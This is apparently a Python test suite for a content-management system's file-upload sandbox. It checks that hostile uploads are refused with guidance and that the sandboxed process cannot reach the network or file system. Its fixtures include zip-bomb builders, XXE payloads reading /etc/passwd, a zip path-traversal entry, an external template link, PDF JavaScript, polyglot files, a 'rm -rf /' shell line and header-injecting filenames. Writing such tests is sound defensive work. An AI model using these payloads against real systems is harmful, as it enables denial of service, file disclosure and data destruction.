"""Hostile files: each is refused, or taken and harmless, in words that say what to do.

They meet the limited process as it runs for a site, not functions of it.
"""

from __future__ import annotations

import io
import os
import struct
import time
import zipfile
import zlib
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image

from jiceng_cms.core.errors import Invalid
from jiceng_cms.files.kinds import KINDS, Unfit
from jiceng_cms.files.sandbox import Busy, Limits, Sandbox
from jiceng_cms.ops.demo.files import make_pdf
from jiceng_cms.web.uploads import clean_filename
from support.uploads import DOCX, PDF, XLSX, locked, make_png, zipped

SANDBOX = Sandbox(Limits(memory=1024, seconds=15, wall=25))


def look(folder: Path, name: str, data: bytes, sandbox: Sandbox = SANDBOX) -> tuple[str, object]:
    path = folder / "file"
    path.write_bytes(data)
    return sandbox.look(path, name)


def refusal(folder: Path, name: str, data: bytes) -> str:
    with pytest.raises(Unfit) as told:
        look(folder, name, data)
    return str(told.value.message)


ENTITY = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bb"><!ENTITY c "&b;&b;">]><a>&c;</a>'
OUTSIDE = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
FETCHES = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r"'
    ' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
    ' Target="http://192.0.2.1/x.dotm" TargetMode="External"/></Relationships>'
)
VIRUS = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-" + b"TEST-FILE!$H+H*"
JPEG = io.BytesIO()
Image.new("RGB", (60, 40), "red").save(JPEG, "JPEG")
ODS_LOCKED = zipped(
    {
        "mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
        "META-INF/manifest.xml": b"<m><encryption-data/></m>",
        "content.xml": b"<x/>",
    }
)


def overlapping() -> bytes:
    """A bomb of few bytes: many names for the same packed part."""
    packed = zlib.compress(b"\0" * 10_000_000, 9)[2:-4]
    local = b"PK\x03\x04" + struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 33, zlib.crc32(b"\0" * 10_000_000), len(packed), 10_000_000, 1, 0)
    out = local + b"a" + packed
    directory = b""
    for number in range(100):
        name = f"word/{number}".encode()
        directory += b"PK\x01\x02" + struct.pack(
            "<HHHHHHIIIHHHHHII", 20, 20, 0, 8, 0, 33, zlib.crc32(b"\0" * 10_000_000), len(packed), 10_000_000, len(name), 0, 0, 0, 0, 0, 0
        ) + name  # fmt: skip
    return out + directory + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 100, 100, len(directory), len(out), 0)


def lying() -> bytes:
    """Parts that say that they are small and are not."""
    data = bytearray(zipped({"word/big.xml": b"<w>" + b" " * 30_000_000 + b"</w>"}, base=DOCX))
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = data.find(signature)
        while at >= 0:
            data[at + offset : at + offset + 4] = struct.pack("<I", 10)
            at = data.find(signature, at + 4)
    return bytes(data)


@pytest.mark.parametrize(
    ("name", "data", "told"),
    [
        ("空.pdf", b"", "对不上"),
        ("零.txt", b"\0" * 5000, "不能公开"),
        ("炸弹.docx", zipped({f"word/{n}": b"\0" * 40_000_000 for n in range(3)}, base=DOCX), "太大"),
        ("重叠.docx", overlapping(), "太大|打不开"),
        ("说谎.docx", lying(), "打不开"),
        ("碎片.docx", zipped({f"word/{n}": b"" for n in range(5001)}, base=DOCX), "太大"),
        ("套.docx", zipped({"word/media/a.bin": zipped({"a": b"x"})}, base=DOCX), "嵌着别的文件"),
        ("嵌.xlsx", zipped({"xl/embeddings/a.xlsx": XLSX}, base=XLSX), "嵌着别的文件"),
        ("程序.docx", zipped({"word/media/a.png": b"MZ" + b"\0" * 100}, base=DOCX), "嵌着别的文件"),
        ("实体.docx", zipped({"word/styles.xml": ENTITY.encode()}, base=DOCX), "外部内容"),
        ("外部.xlsx", zipped({"xl/styles.xml": OUTSIDE.encode()}, base=XLSX), "外部内容"),
        ("十六.docx", zipped({"word/styles.xml": OUTSIDE.replace("?>", " encoding='utf-16'?>", 1).encode("utf-16")}, base=DOCX), "外部内容"),
        ("藏.docx", zipped({"word/styles.xml": b"<!-- " + b"x" * 70_000 + b" -->" + ENTITY[21:].encode()}, base=DOCX), "外部内容"),
        ("模板.docx", zipped({"word/_rels/settings.xml.rels": FETCHES.encode()}, base=DOCX), "外部内容"),
        ("宏.xlsx", zipped({"xl/vbaProject.bin": b"x"}, base=XLSX), "宏"),
        ("爬.docx", zipped({"../../etc/cron.d/x": b"x"}, base=DOCX), "打不开"),
        ("密.docx", locked(DOCX), "密码"),
        ("密.ods", ODS_LOCKED, "密码"),
        ("密.pdf", PDF + b"\ntrailer << /Encrypt << /Filter /Standard >> >>", "密码"),
        ("脚本.pdf", PDF + b"<< /S /JavaScript >>", "带有程序"),
        ("脚本.pdf", PDF + b"9 0 obj << /Type /ObjStm >>\nstream\n" + zlib.compress(b"<< /S /JavaScript >>"), "带有程序"),
        ("页.pdf", make_pdf(["一"] * 40 * 3100), "页"),
        ("双.pdf", PDF + zipped({"a.exe": b"MZ"}), "藏着另一个文件"),
        ("双.jpg", JPEG.getvalue() + DOCX, "藏着另一个文件"),
        ("双.pdf", b"MZ" + PDF, "藏着另一个文件"),
        ("双.txt", b"GIF89a" + PDF, "藏着另一个文件"),
        ("网页.txt", b"\xef\xbb\xbf <!DOCTYPE html><script>1</script>", "不能公开"),
        ("网页.txt", b"#!/bin/sh\nrm -rf /", "不能公开"),
        ("病毒.txt", VIRUS, "病毒"),
        ("大图.png", make_png(50_000, 50_000), "太大"),
        ("长图.png", make_png(50_000, 2), "太大"),
        ("断.png", make_png(3000, 3000)[:-9000], "打不开"),
        ("断.jpg", JPEG.getvalue()[:300], "打不开"),
        ("断.heic", b"\0\0\0\x18ftypheic" + b"\0" * 100, "打不开"),
        ("断.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 2000, "打不开"),
        ("断.pdf", b"%PDF-1.7\n" + b"1 0 obj\n" * 50, "打不开"),
        ("假.pdf", DOCX, "对不上"),
        ("假.docm", DOCX, "对不上"),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_what_is_refused(tmp_path: Path, name: str, data: bytes, told: str) -> None:
    began = time.monotonic()
    words = refusal(tmp_path, name, data)
    assert any(part in words for part in told.split("|")), words
    assert "请" in words, "says what to do"
    assert time.monotonic() - began < 20


def test_a_locked_old_document_and_one_with_macros(tmp_path: Path) -> None:
    assert "密码" in refusal(tmp_path, "a.doc", compound({"WordDocument": b"\xec\xa5\xc1\0" + b"\0" * 6 + b"\0\x01" + b"\0" * 4200}))
    assert "宏" in refusal(tmp_path, "a.doc", compound({"WordDocument": b"\0" * 4200, "_VBA_PROJECT": b"\0" * 4200}))
    assert "密码" in refusal(tmp_path, "a.docx", compound({"EncryptedPackage": b"\0" * 4200}))
    assert "密码" in refusal(tmp_path, "a.xls", compound({"Workbook": struct.pack("<HHHH", 0x809, 2, 6, 0x2F) + b"\0" * 4200}))
    assert "不能公开" in refusal(tmp_path, "a.ppt", compound({"PowerPoint Document": b"\0" * 4200}))


def test_old_documents_are_taken_by_their_content(tmp_path: Path) -> None:
    document = compound({"WordDocument": b"\xec\xa5\xc1\0" + b"\0" * 4200})
    assert look(tmp_path, "a.doc", document)[0] == "application/msword"
    assert look(tmp_path, "a.wps", document)[0] == "application/wps-office.wps"
    assert "对不上" in refusal(tmp_path, "a.xls", document)
    sheet = compound({"Workbook": struct.pack("<HHHHH", 0x809, 2, 6, 0x0A, 0) + b"\0" * 4200})
    assert look(tmp_path, "a.xls", sheet)[0] == "application/vnd.ms-excel"
    assert look(tmp_path, "a.et", sheet)[0] == "application/wps-office.et"


def compound(streams: dict[str, bytes]) -> bytes:
    """A compound file with these streams, each of at least 4,096 bytes (so none is a small one)."""
    sectors: list[bytes] = []
    chain: list[int] = []
    entries = [("Root Entry", 5, 0xFFFFFFFE, 0)]

    def add(data: bytes) -> int:
        first = len(sectors)
        count = -(-len(data) // 512)
        for number in range(count):
            sectors.append(data[number * 512 : (number + 1) * 512].ljust(512, b"\0"))
            chain.append(first + number + 1 if number + 1 < count else 0xFFFFFFFE)
        return first

    for name, data in streams.items():
        entries.append((name, 2, add(data), len(data)))
    directory = b""
    for number, (name, kind, first, size) in enumerate(entries):
        raw = name.encode("utf-16-le") + b"\0\0"
        right = number + 1 if 0 < number < len(entries) - 1 else 0xFFFFFFFF
        child = 1 if number == 0 else 0xFFFFFFFF
        directory += raw.ljust(64, b"\0") + struct.pack("<HBBIII", len(raw), kind, 1, 0xFFFFFFFF, right, child)
        directory += b"\0" * 36 + struct.pack("<IQ", first, size)
    start = add(directory.ljust(-(-len(directory) // 512) * 512, b"\0"))
    at = len(sectors)
    chain.append(0xFFFFFFFD)
    table = b"".join(struct.pack("<I", n) for n in chain).ljust(512, b"\xff")
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 6
    head += struct.pack("<IIIIIIIII", 0, 1, start, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0) + struct.pack("<I", at)
    return head.ljust(512, b"\xff") + b"".join(sectors) + table


# ------------------------------------------------------------------------------- limits


HANGS = "import time\nfrom jiceng_cms.files.extract import _say\n_say(b'L', {'media_type': 'text/plain'})\ntime.sleep(600)\n"
SPINS = "from jiceng_cms.files.confine import confine\nconfine(memory=512, seconds=1)\nwhile True: pass\n"
EATS = (
    "from jiceng_cms.files.extract import _say\nfrom jiceng_cms.files.confine import confine\nconfine(memory=256, seconds=20)\n"
    "_say(b'L', {'media_type': 'text/plain'})\nkept = []\nwhile True: kept.append(bytearray(1 << 20))\n"
)
FLOODS = "import os\nwhile True: os.write(1, b'P\\x7f\\xff\\xff\\xff' + b'x' * 65536)\n"


def sandbox_of(code: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, wall: float = 3.0) -> Sandbox:
    """A sandbox whose process runs ``code`` in the place of ours."""
    script = tmp_path / "work.py"
    script.write_text(code, encoding="utf-8")
    import subprocess

    started = subprocess.Popen

    def start(command: list[str], **kw: object) -> object:
        at = command.index("-m")
        made = started([*command[:at], str(script), *command[at + 2 :]], **kw)  # type: ignore[call-overload]
        begun.append(made.pid)
        return made

    begun: list[int] = []
    monkeypatch.setattr("jiceng_cms.files.sandbox.subprocess.Popen", start)
    sandbox = Sandbox(Limits(memory=256, seconds=5, wall=wall), slots=1)
    sandbox.begun = begun  # type: ignore[attr-defined]
    return sandbox


@pytest.mark.parametrize("code", [HANGS, EATS])
def test_reading_that_hangs_or_eats_memory_is_ended_and_says_so(
    code: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    sandbox = sandbox_of(code, monkeypatch, tmp_path)
    began = time.monotonic()
    media_type, text = look(tmp_path, "a.txt", b"x", sandbox)
    assert time.monotonic() - began < 10
    assert (media_type, text.status) == ("text/plain", "ended")  # type: ignore[attr-defined]
    for pid in sandbox.begun:  # type: ignore[attr-defined]
        with pytest.raises(ProcessLookupError):
            os.kill(pid, 0)


@pytest.mark.parametrize(("code", "told"), [("import time; time.sleep(600)", "时间太长"), (SPINS, "时间太长"), (FLOODS, "打不开"), ("1/0", "打不开")])
def test_a_file_that_breaks_the_look_at_it_is_refused(
    code: str, told: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    sandbox = sandbox_of(code, monkeypatch, tmp_path)
    with pytest.raises(Unfit, match=told):
        look(tmp_path, "a.txt", b"x", sandbox)


def test_no_more_at_a_time_than_there_are_slots(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    import threading

    sandbox = sandbox_of("import time; time.sleep(600)", monkeypatch, tmp_path, wall=2.0)
    (tmp_path / "file").write_bytes(b"x")
    ends: list[str] = []

    def one() -> None:
        try:
            sandbox.look(tmp_path / "file", "a.txt")
        except (Unfit, Busy) as error:
            ends.append(type(error).__name__)

    threads = [threading.Thread(target=one) for _ in range(3)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert len(ends) == 3
    assert "Busy" in ends


@pytest.mark.parametrize(
    "reach",
    [
        "__import__('socket').socket()",
        "__import__('os').fork()",
        "__import__('subprocess').run(['true'])",
        "__import__('os').system('true')",
        "open('/tmp/jiceng-never', 'w')",
        "__import__('os').remove(__file__)",
        "bytearray(900 << 20)",
    ],
)
def test_the_limited_process_can_reach_nothing(reach: str, tmp_path: Path) -> None:
    import subprocess
    import sys

    code = f"from jiceng_cms.files.confine import confine\nconfine(memory=512, seconds=5)\ntry:\n  {reach}\nexcept BaseException as e:\n  print('held', type(e).__name__)\nelse:\n  print('free')"
    script = tmp_path / "reach.py"
    script.write_text(code, encoding="utf-8")
    done = subprocess.run([sys.executable, "-I", "-B", str(script)], capture_output=True, text=True, check=False, timeout=30)
    assert done.stdout.startswith("held"), done
    assert script.exists()


# ------------------------------------------------------------------------------- names and noise


@pytest.mark.parametrize("name", ["a\0b.pdf", "a\r\nSet-Cookie: x.pdf", "决算\u202efdp.exe", "长" * 121 + ".pdf", "", "..", "/", ".htaccess", "\u200b.pdf"])
def test_names_that_are_refused(name: str) -> None:
    with pytest.raises(Invalid) as told:
        clean_filename(name)
    assert "请" in told.value.message


@given(st.text(max_size=300))
@settings(max_examples=150, deadline=None)
def test_a_name_that_passes_can_stand_in_a_header_and_a_folder(name: str) -> None:
    from jiceng_cms.web.downloads import disposition

    try:
        kept = clean_filename(name)
    except Invalid:
        return
    assert "/" not in kept
    assert "\\" not in kept
    assert "\0" not in kept
    assert not kept.startswith(".")
    header = disposition(kept)
    assert header.isascii()
    assert header.isprintable()


@given(st.data())
@settings(max_examples=12, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_damaged_files_end_in_an_answer(tmp_path: Path, data: st.DataObject) -> None:
    """Whatever is broken in a good file: it is refused or taken as what its name says."""
    name, good = data.draw(st.sampled_from([("a.pdf", PDF), ("a.docx", DOCX), ("a.xlsx", XLSX), ("a.jpg", JPEG.getvalue())]))
    broken = bytearray(good)
    for at, value in data.draw(st.lists(st.tuples(st.integers(0, len(good) - 1), st.integers(0, 255)), max_size=12)):
        broken[at] = value
    broken = broken[: data.draw(st.integers(1, len(good)))]
    try:
        found, text = look(tmp_path, name, bytes(broken))
    except Unfit:
        return
    else:
        assert name[1:] in KINDS[found].endings
        assert text.status in ("read", "partial", "scan", "unreadable", "ended")  # type: ignore[attr-defined]


def test_the_bombs_are_small_and_would_be_large() -> None:
    """These tests would prove nothing with bombs that are none."""
    assert len(make_png(50_000, 50_000)) < 5_000_000
    with zipfile.ZipFile(io.BytesIO(overlapping())) as archive:
        assert sum(part.file_size for part in archive.infolist()) == 1_000_000_000
    assert len(overlapping()) < 50_000
